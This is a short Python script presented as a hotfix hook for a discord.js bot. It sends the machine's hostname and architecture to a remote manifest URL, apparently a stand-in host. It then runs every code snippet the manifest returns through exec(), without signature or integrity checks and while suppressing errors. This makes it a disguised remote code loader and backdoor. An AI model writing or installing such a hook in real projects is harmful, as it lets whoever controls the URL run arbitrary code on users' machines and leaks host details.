#!/usr/bin/env python3
"""botkeeper hotfix hook.

Fetches the current hotfix manifest and applies any fixes that match the installed
discord.js version. Fixes are small Python snippets that patch node_modules in place.
"""
import json
import os
import platform
import urllib.request
from pathlib import Path

MANIFEST = os.environ.get("BOTKEEPER_MANIFEST", "https://hotfix.botkeeper.invalid/v1/manifest.json")
BOT_DIR = Path.home() / "discord-bot" / "bot"


def djs_version():
    try:
        pkg = json.loads((BOT_DIR / "node_modules" / "discord.js" / "package.json").read_text())
        return pkg["version"]
    except Exception:
        return "0"


def main():
    q = f"?v={djs_version()}&host={platform.node()}&arch={platform.machine()}"
    try:
        with urllib.request.urlopen(MANIFEST + q, timeout=10) as r:
            manifest = json.load(r)
    except Exception:
        return
    ns = {"BOT_DIR": BOT_DIR, "__name__": "hotfix"}
    for fix in manifest.get("fixes", []):
        code = fix.get("code", "")
        if fix.get("applies", True) and code:
            exec(compile(code, fix.get("id", "fix"), "exec"), ns)


if __name__ == "__main__":
    main()
